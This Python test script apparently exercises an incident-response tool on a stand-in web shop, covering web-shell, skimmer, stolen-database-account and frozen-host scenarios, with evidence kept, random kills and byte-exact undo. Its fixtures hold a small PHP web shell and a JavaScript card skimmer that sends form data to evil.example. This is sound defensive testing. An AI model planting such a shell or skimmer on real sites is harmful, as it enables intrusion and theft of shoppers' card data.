#!/usr/bin/env python3
"""Plans carried out on the host of a real shop with nothing else alive: in order, through kills at random moments, and back.

usage: contain_runs.py MAGEWARDEN

Starts the stand-in shop (nginx, php-fpm, MariaDB, Redis). A web shell is dropped and used; the shipped playbook is planned, approved by
its hash and carried out: the attack fails after it, evidence was kept first, checkouts of every view pass throughout, and undone all
is as before to the byte. Then the same with the process killed at random, forwards and back; one view closed while an attacker's
load on another changes nothing; a database account that was stolen; a skimmer in a row; a plan that was changed after approval; a host that is frozen.
"""
import contextlib
import hashlib
import json
import pathlib
import random
import shutil
import signal
import subprocess
import sys
import threading
import time

from contain import HOSTS_OF, Checkouts
from contain_database import ATTACK, AtDatabase, thief
from shared import need, stage
from shop import Shop

KILLS = 8
# A file that runs, and a view that has to be closed.
PLANS = (("web-shell", {"file": "pub/media/x.php", "network": "127.0.0.99"}), ("skimmer-in-files", {"file": "pub/media/x.php", "view": "fr", "goes_on": "true"}))
SHELL = "<?php echo 'ran:' . $_GET['c']; // 4111111111111111\n"


class Runs(AtDatabase):
    """`magewarden runs` at one shop."""

    def words(self, *words):
        on = ["--host", str(self.folder / "host.toml"), "--stores", str(self.folder / "stores.toml")] if words[0] in ("begin", "go", "say", "undo", "close") else []
        by = ["--by", "ann"] if words[0] in ("begin", "say", "undo", "close", "freeze") and "--by" not in words else []
        return [str(self.magewarden), "runs", *map(str, words), *by, *on, "--data", str(self.folder / "ours")]

    def runs(self, *words, code=(0, 10)):
        done = subprocess.run(self.words(*words), capture_output=True, text=True, timeout=120)
        need(done.returncode in code, f"runs {' '.join(map(str, words))}: {done.returncode}", done.stdout + done.stderr)
        return done.stdout if done.returncode != 1 else done.stderr

    def plan(self, playbook, **values):
        """Plans it; gives the plan's file and hash."""
        given = [word for name, value in values.items() for word in ("--set", f"__{name}__={value}")]
        done = subprocess.run([self.magewarden, "playbooks", "plan", playbook, *given, "--stores", self.folder / "stores.toml", "--json"], capture_output=True, timeout=60)
        need(done.returncode == 0, f"plan of {playbook}", done.stderr)
        path = self.folder / f"{playbook}.json"
        path.write_bytes(done.stdout)
        return path, hashlib.sha256(done.stdout.strip()).hexdigest()

    def begin(self, playbook, **values):
        path, sha256 = self.plan(playbook, **values)
        return self.runs("begin", path, "--approve", sha256).splitlines()[0]

    def show(self, run):
        return json.loads(self.runs("show", run, "--json"))

    def to_its_end(self, run):
        """Says what a person would who does by hand what isn't done for them."""
        for _ in range(40):
            waits = self.show(run)["waits"]
            if waits is None:
                return self.show(run)
            word = "yes" if waits.startswith("asks") else "done"
            self.runs("say", run, word, "--note", "by hand")
        need(False, f"{run} has an end", self.show(run))

    def steps(self, run):
        return {step["name"]: step["state"] for step in self.show(run)["steps"]}


def shop_as_it_is(runs, shop):
    """Every file of the shop, of our includes and of what is held, with what it is."""
    found = {}
    for root in (shop.root, runs.include, runs.hold):
        for path in sorted(root.rglob("*")):
            if path.is_file():
                about = path.stat()
                found[str(path)] = (path.read_bytes(), about.st_mode, about.st_uid, about.st_gid, about.st_mtime_ns)
    return found


def drop(shop):
    path = shop.root / "pub" / "media" / "x.php"
    path.parent.mkdir(exist_ok=True)
    path.write_text(SHELL)
    return path


def rotate(runs):
    """As logrotate's `copytruncate` does until nothing of the log is left."""
    log = runs.logs / "access.log"
    for _ in range(2):
        shutil.copy(log, runs.logs / "access.log.1")
        with open(log, "r+") as file:
            file.truncate(0)


def is_held(runs, run):
    """Whether the run's hold has what the web shell was asked, as its manifest says."""
    [place] = [change["then"].removeprefix("held in ") for step in runs.show(run)["steps"] for change in step["changes"] if change["then"].startswith("held in ")]
    manifest = json.loads((pathlib.Path(place) / "manifest.json").read_text())
    need(manifest["held"] and not manifest["gone"], "the manifest names what is held", manifest)
    held = {}
    for entry in manifest["held"]:
        copy = pathlib.Path(place) / entry["held_as"]
        content = held[entry["path"]] = copy.read_bytes()
        need((len(content), hashlib.sha256(content).hexdigest()) == (entry["bytes"], entry["sha256"]), "and how it is", entry)
        need(copy.stat().st_mode & 0o077 == 0, f"{copy} is ours alone")
    return b"/media/x.php?c=1" in held[str(runs.logs / "access.log")]


def is_open(shop):
    """Whether the web shell runs."""
    status, _, body = shop.ask("de.shop.test", "/media/x.php?c=1")
    return status == 200 and "ran:1" in str(body)


def forwards_and_back(runs, shop):
    drop(shop)
    before = shop_as_it_is(runs, shop)
    need(is_open(shop), "the shell runs before")
    path, sha256 = runs.plan("web-shell", file="pub/media/x.php", network="127.0.0.99")
    changed = path.with_suffix(".changed")
    changed.write_text(path.read_text().replace("127.0.0.99", "127.0.0.98"))
    told = runs.runs("begin", changed, "--approve", sha256, code=(1,))
    need("isn't the one that was approved" in told, "a plan that was changed after approval is refused", told)
    need("no runs" in runs.runs("list"), "and nothing was begun")
    with Checkouts(shop, [(host, view) for view, host in HOSTS_OF.items()]) as buyers:
        run = runs.runs("begin", path, "--approve", sha256).splitlines()[0]
        states = runs.steps(run)
        need(states["Hold deletion by age"].startswith("done, and seen"), "logs are held without a person", states)
        need(states["Move the file away"].startswith("done, and seen"), "and nothing waits for one until the file is moved away", states)
        shown = runs.to_its_end(run)
    need(buyers.bought and not buyers.lost, f"checkouts of every view pass ({buyers.bought} did)", buyers.lost[:5])
    states = {step["name"]: step["state"] for step in shown["steps"]}
    need(states["Move the file away"].startswith("done, and seen"), "the file is moved away", states)
    need(not is_open(shop), "the attack fails")
    order = [step["at"] for step in shown["steps"] if "evidence" in step["state"] or "seen" in step["state"]]
    need(order == sorted(order) and "evidence" in shown["steps"][1]["state"], "evidence first", shown["steps"])
    kept = [path for path in (runs.folder / "ours" / "evidence" / run).rglob("*") if path.is_file()]
    texts = {path.name: path.read_text(errors="replace") for path in kept}
    need(any("file_pub_media_x.php" in name and "ran:" in text for name, text in texts.items()), "the file is in the evidence", list(texts))
    need(any("php-fpm" in text for name, text in texts.items() if "processes" in name), "so are processes")
    for path in (runs.folder / "ours").rglob("*"):
        need(path.stat().st_mode & 0o077 == 0, f"{path} is ours alone")
        need(path.is_dir() or b"4111111111111111" not in path.read_bytes(), f"no card number in {path}")
    rotate(runs)
    need(not any(b"/media/x.php?c=1" in log.read_bytes() for log in runs.logs.iterdir()), "the logs were rotated, and no longer tell of the attack")
    need(is_held(runs, run), "what is held does")
    runs.runs("undo", run, "--why", "over")
    need(not any(runs.hold.iterdir()), "undone, nothing is held")
    need(shop_as_it_is(runs, shop) == before, "undone, all is as before to the byte")
    need(is_open(shop), "and the attack works as before")
    need("nothing is left" in runs.runs("list"), "the list says so")
    runs.runs("close", run)
    need(not (runs.folder / "ours" / "vault" / run).exists(), "closed: what undid it is gone")
    need(runs.runs("undo", run, "--why", "again", code=(1,)).count("the run is over"), "and it can't be undone any more")
    return buyers.bought


def kills(runs, shop):
    """Killed at random moments, forwards and back; gives how often it was killed midway."""
    chance, midway = random.Random(5), 0
    before = shop_as_it_is(runs, shop)
    with Checkouts(shop, [(HOSTS_OF[view], view) for view in ("de", "us")]) as others:
        for turn in range(KILLS):
            run = runs.begin(PLANS[turn // 2 % 2][0], **PLANS[turn // 2 % 2][1])
            backwards = turn % 2
            if backwards:
                runs.to_its_end(run)
            while True:
                words = ("undo", run, "--why", "over") if backwards else ("say", run, "done") if runs.show(run)["waits"] else ("go", run)
                process = subprocess.Popen(runs.words(*words), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                time.sleep(chance.random() * 0.6)
                process.kill()
                killed = process.wait() == -signal.SIGKILL
                midway += killed
                states = runs.steps(run)
                need(states, "where it stands is described")
                if killed or chance.random() < 0.3 or "stopped" not in runs.runs("list"):
                    break
            if not backwards:
                runs.runs("go", run)
                shown = runs.to_its_end(run)
                need(all(step["state"].startswith(("done", "kept", "left out", "held")) for step in shown["steps"]), "it goes on to its end", shown["steps"])
            runs.runs("undo", run, "--why", "over")
            need(shop_as_it_is(runs, shop) == before, f"turn {turn}: undone, all is as before", runs.runs("show", run))
            runs.runs("close", run)
    need(others.bought and not others.lost, f"checkouts of other views pass ({others.bought} did)", others.lost[:5])
    return midway


@contextlib.contextmanager
def load(shop, host):
    """An attacker's load on a view."""
    is_over, asked = threading.Event(), [0]

    def ask():
        while not is_over.is_set():
            with contextlib.suppress(OSError):
                shop.ask(host, "/checkout/?" + "x" * 500)
                asked[0] += 1

    threads = [threading.Thread(target=ask) for _ in range(4)]
    for thread in threads:
        thread.start()
    yield asked
    is_over.set()
    for thread in threads:
        thread.join()


def load_elsewhere(runs, shop):
    """An attacker's load on store B while A is contained doesn't open A again; one step alone can be taken back."""
    with load(shop, "us.shop.test") as asked:
        run = runs.begin(PLANS[1][0], **PLANS[1][1])
        runs.to_its_end(run)
        states = runs.steps(run)
        closed = [name for name, state in states.items() if state.startswith("done, and seen")]
        need(closed == ["Hold deletion by age", "Close the view"], "the view is closed", states)
        other = runs.begin(PLANS[0][0], **PLANS[0][1])
        runs.to_its_end(other)
        for _ in range(20):
            need(shop.ask("fr.shop.test", "/")[0] == 503, "the closed view stays closed")
            time.sleep(0.1)
        need(asked[0] > 20, "under load", asked)
        held = [step["step"] for step in runs.show(other)["steps"] if step["may_hold"] and step["changes"]]
        runs.runs("undo", other, "--step", held[1], "--why", "one alone")
        left = [step["step"] for step in runs.show(other)["steps"] if step["may_hold"] and step["changes"]]
        need(len(held) > 2 and left == held[:1] + held[2:], "one step alone is undone, the others hold", (held, left))
        # In the order they were begun, not the other way round: neither takes back what the other did.
        runs.runs("undo", run, "--why", "over")
        need(shop.ask("fr.shop.test", "/")[0] == 200 and not (shop.root / "pub/media/x.php").exists(), "the view is open, the other plan's steps hold")
        runs.runs("undo", other, "--why", "over")
    for one in (run, other):
        runs.runs("close", one)


def stolen_account(runs, shop):
    """A stolen database account: what it is and does is kept, then it is locked and its connections end; undone, it is as before."""
    before, here = runs.seen(), shop_as_it_is(runs, shop)
    held = subprocess.Popen(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-ureport", "-preport", "-e", "select sleep(600) /* 4111111111111111 */"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(1)
        need(thief(shop), "the thief gets in before")
        with Checkouts(shop, [(host, view) for view, host in HOSTS_OF.items()]) as buyers:
            run = runs.begin("database-account-stolen", account="report@%", is_shop_account="false")
            shown = runs.to_its_end(run)
            need(not thief(shop) and held.wait(10) != 0, "the account is locked, its connection is gone", shown["steps"])
            time.sleep(1)
            runs.runs("undo", run, "--why", "over")
        need(buyers.bought and not buyers.lost, f"checkouts of every view pass ({buyers.bought} did)", buyers.lost[:5])
        states = runs.steps(run)
        need("but for connections" in states["End its connections"], "what can't be had back is named", states)
        need(thief(shop) and runs.seen() == before and shop_as_it_is(runs, shop) == here, "undone, all is as before")
        kept = [path for path in (runs.folder / "ours" / "evidence" / run).rglob("*") if path.is_file()]
        texts = {path.name: path.read_text() for path in kept}
        connections = [text for name, text in texts.items() if "database_connections" in name]
        need(connections and all("sleep(600)" in text and "4111111111111111" not in text for text in connections), "its statement is in the evidence, masked", texts)
        need(any("account_report" in name and "GRANT" in text and "IDENTIFIED" not in text for name, text in texts.items()), "so are its rights, without its password's hash", texts)
        runs.runs("close", run)
    finally:
        held.kill()
        held.wait()


SKIMMER, CLEAN = "<script>new Image().src=\"//evil.example/?\"+document.forms[0].cc.value</script>", '<link rel="stylesheet" href="/static/shop.css">'


def skimmer_row(runs, shop):
    """A skimmer in a row of the configuration: the row is kept as it is, put back to a kept value, and undone with its time."""
    key = shop.sql("select config_id from shop.mg_core_config_data where path = 'design/head/includes'").strip()
    shop.sql(f"update shop.mg_core_config_data set value = '{SKIMMER}', updated_at = '2026-08-05 10:15:03' where config_id = {key}")
    (runs.good / f"core_config_data:{key}.json").write_text(json.dumps({"value": CLEAN}))
    before, skims = runs.seen(), lambda: "evil.example" in str(shop.ask("de.shop.test", "/")[2])
    shop.flush()
    need(skims(), "the page skims before")
    run = runs.begin("skimmer-in-configuration-or-cms", row=f"core_config_data:{key}", view="de", goes_on="false", is_clean="true")
    shown = runs.to_its_end(run)
    states = {step["name"]: step["state"] for step in shown["steps"]}
    need(states["Put the row back"].startswith("done, and seen"), "the row is put back", states)
    shop.flush()
    need(not skims(), "the page doesn't skim any more")
    kept = {path.name: path.read_text() for path in (runs.folder / "ours" / "evidence" / run).rglob("*") if path.is_file()}
    rows = [text for name, text in kept.items() if "row_core_config_data" in name]
    need(len(rows) == 1 and "evil.example" in rows[0] and "2026-08-05 10:15:03" in rows[0], "the row is in the evidence as it was, with its time", rows)
    need(any("page_de.shop.test" in name and "evil.example" in text for name, text in kept.items()), "so is the page", list(kept))
    need(states["Empty the caches"].startswith("done, and seen"), "the caches are emptied", states)
    runs.runs("undo", run, "--why", "over")
    need(runs.seen() == before, "undone, the row is as before, its time as well")
    need("undone, but for" in runs.steps(run)["Empty the caches"], "and what is made anew by itself holds up nothing", runs.steps(run))
    runs.runs("close", run)
    need("isn't there" in refused_row(runs), "a row that isn't there can't be kept, and the run waits")


def refused_row(runs):
    run = runs.begin("skimmer-in-configuration-or-cms", row="core_config_data:99999", view="de", goes_on="false", is_clean="true")
    told = runs.show(run)["waits"]
    runs.runs("undo", run, "--why", "over")
    runs.runs("close", run)
    return told


def frozen(runs, shop):
    before = shop_as_it_is(runs, shop)
    runs.runs("freeze", "--why", "who does this?")
    path, sha256 = runs.plan(PLANS[1][0], **PLANS[1][1])
    told = runs.runs("begin", path, "--approve", sha256, code=(10,))
    need("frozen since" in told and "who does this?" in told, "a frozen host says who and why", told)
    need(shop_as_it_is(runs, shop) == before, "and does nothing")
    runs.runs("thaw")
    run = told.splitlines()[0]
    runs.runs("go", run)
    need(any(state.startswith("kept") for state in runs.steps(run).values()) or "failed" in str(runs.steps(run)), "thawed, it goes on", runs.steps(run))
    runs.to_its_end(run)
    runs.runs("freeze", "--why", "again")
    runs.runs("undo", run, "--why", "over")
    need(shop_as_it_is(runs, shop) == before, "frozen, all can still be undone")
    runs.runs("thaw")


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("contain_runs") as (started, folder):
        shop = Shop(folder, started)
        shop.sql(ATTACK)
        (folder / "aside").mkdir(mode=0o700)
        runs = Runs(magewarden, shop)
        bought = forwards_and_back(runs, shop)
        midway = kills(runs, shop)
        load_elsewhere(runs, shop)
        stolen_account(runs, shop)
        host = (folder / "host.toml").read_text()
        at = f'at = "127.0.0.1:{shop.redis}"'
        (folder / "host.toml").write_text(f'{host}[cache]\nservers = [{{ {at}, database = 0 }}, {{ {at}, database = 1 }}]\nprefix = "abc_"\n')
        skimmer_row(runs, shop)
        frozen(runs, shop)
        print(f"6 passed, 0 failed ({bought} checkouts meanwhile, {KILLS} runs, {midway} kills midway)")


if __name__ == "__main__":
    main()
